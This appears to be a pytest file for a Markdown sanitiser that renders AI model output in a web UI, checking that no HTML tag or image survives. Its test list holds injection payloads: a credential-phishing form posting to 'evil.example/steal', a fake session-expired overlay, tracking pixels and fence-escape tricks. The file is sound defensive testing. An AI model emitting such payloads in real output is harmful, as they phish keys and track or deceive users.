"""webui.safety: model-written Markdown keeps code, tables and math but can never form an HTML tag or an image.

Property checked throughout: outside fenced code blocks the result holds no ``<`` except the ``<code>`` tags the
module emits itself, and no unescaped ``![``; every fenced block is closed by a fence no content line can match.
"""

from __future__ import annotations

import re

import pytest

from webui.safety import code_block, inline_code, literal, safe_markdown

OWN_TAGS = re.compile(r"</?code>")


def outside_fences(markdown: str) -> str:
    """The text of ``markdown`` outside its fenced blocks (fences as safe_markdown emits them: column 0, backticks)."""
    out, fence = [], None
    for line in markdown.split("\n"):
        if fence is None:
            m = re.match(r"^(`{3,})", line)
            if m:
                fence = m.group(1)
                continue
            out.append(line)
        elif re.match(rf"^{fence}`*\s*$", line):
            fence = None
    return "\n".join(out)


def assert_inert(markdown: str) -> None:
    prose = OWN_TAGS.sub("", outside_fences(markdown))
    assert "<" not in prose, f"a tag could form: {prose!r}"
    assert not re.search(r"(?<!\\)!\[", prose), f"an image could form: {prose!r}"


ATTACKS = [
    '<form action="https://evil.example/steal" method="post"><input name="key" placeholder="sk-ant-..."><button>Save</button></form>',
    '<div style="position:fixed;inset:0;background:white;z-index:9999">Session expired</div>',
    '<img src="http://127.0.0.2:9/pixel.png">',
    "![pixel](http://127.0.0.2:9/p.png)",
    "![pixel][r]\n\n[r]: http://127.0.0.2:9/p.png",
    "<http://127.0.0.2:9/x>",
    "<!-- hidden --><style>body{display:none}</style>",
    "\\![x](http://e/p.png) and \\\\![y](http://e/q.png)",
    "`code` <img src=x> `more`",
    "- a\n  ```\n<x>\n```\n```\n<img src=//evil>\n```",  # a fence closed by a list item's end elsewhere
    "> ```\n<img src=//evil>\n```",
    "    ```\n    <img src=//evil>\n    ```",  # indented: not a fence here
    "[link](http://a/`)<img src=//evil>`",
    "```mermaid\ngraph TD; A[<form><input></form>]\n```",
    "&lt;img src=x&gt; is fine, <img src=y> is not",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_tag_or_image_survives(attack):
    assert_inert(safe_markdown(attack))


def test_fenced_code_is_kept_as_code_with_its_language():
    text = "Here:\n\n```html\n<form action=\"/x\"><input></form>\n```\n\nDone."
    out = safe_markdown(text)
    assert "```html\n<form action=\"/x\"><input></form>\n```" in out
    assert out.startswith("Here:") and out.endswith("Done.")
    assert_inert(out)


def test_an_unclosed_fence_is_closed_and_a_long_fence_stays_unbreakable():
    out = safe_markdown("```python\nprint('<b>')\n```` not a closer\n")
    assert out.startswith("`````python\n") and out.rstrip().endswith("`````")
    assert_inert(out)


def test_list_indented_fence_is_dedented_to_column_zero():
    out = safe_markdown("1. Run:\n   ```bash\n   echo '<x>'\n   ```\n2. Next")
    assert "```bash\necho '<x>'\n```" in out
    assert out.endswith("2. Next")


def test_mermaid_diagrams_show_as_source():
    assert safe_markdown("```mermaid\ngraph TD; A-->B\n```").startswith("```text\n")


def test_tables_math_links_emphasis_are_unchanged():
    text = "| a | b |\n|---|---|\n| 1 | **2** |\n\n$$x^2 + y_1$$ and [docs](https://example.com) *ok*"
    assert safe_markdown(text) == text


def test_inline_code_is_an_escaped_code_element():
    out = safe_markdown("use `<div class=\"a\">` and ``a`b``")
    assert out == ("use <code>&lt;div class\\=\\\"a\\\"&gt;</code> and <code>a\\`b</code>")


def test_comparisons_stay_readable():
    assert safe_markdown("if a < b and c > d") == "if a &lt; b and c > d"
    assert safe_markdown("escaped \\<b\\>") == "escaped &lt;b\\>"


def test_inline_code_and_literal_helpers():
    assert inline_code("a`b\n<c>") == "<code>a\\`b &lt;c&gt;</code>"
    assert literal("$$x$$") == "\\$\u200b\\$\u200bx\\$\u200b\\$\u200b"
    assert code_block("``` inside") == "````\n``` inside\n````"


def test_file_names_from_the_sandbox_are_not_markup_in_the_files_panel(tmp_path):
    """A file the model named ``x` <img src=…> `` must not become an image in the Files panel's note."""
    import asyncio
    from types import SimpleNamespace

    from webui.artifacts import ArtifactStore
    from webui.workspace import WorkspaceActions

    async def save_file(path: str, dest, cap: int) -> int:
        dest.write_bytes(b"data")
        return 4

    class Session:  # like BrowserSession: the page keeps per-tab download state against the object
        agent = SimpleNamespace(save_file=save_file)
        artifacts = ArtifactStore(tmp_path)

    session = Session()
    registry = SimpleNamespace(get=lambda key: session, open=lambda key: session)
    actions = WorkspaceActions(registry, provider=None)  # type: ignore[arg-type]
    name = "/home/user/x` <img src=http://127.0.0.2/p.png> `.txt"
    _, note = asyncio.run(actions.download_file(name, SimpleNamespace(session_hash="s")))
    assert_inert(note)
    assert "img src" in note, "the name itself should still be shown"


def test_random_mixtures_of_markup_characters_never_form_a_tag_or_image():
    import random

    pieces = ["<", ">", "`", "``", "```", "~~~", "\\", "!", "[", "]", "(", ")", "\n", "\n\n", "    ", " ", "a", "img",
              "form", "$$", "- ", "> ", "1. ", "|", "<!--", "http://e/x.png", '"', "'"]
    rng = random.Random(1234)
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 40)))
        assert_inert(safe_markdown(text))
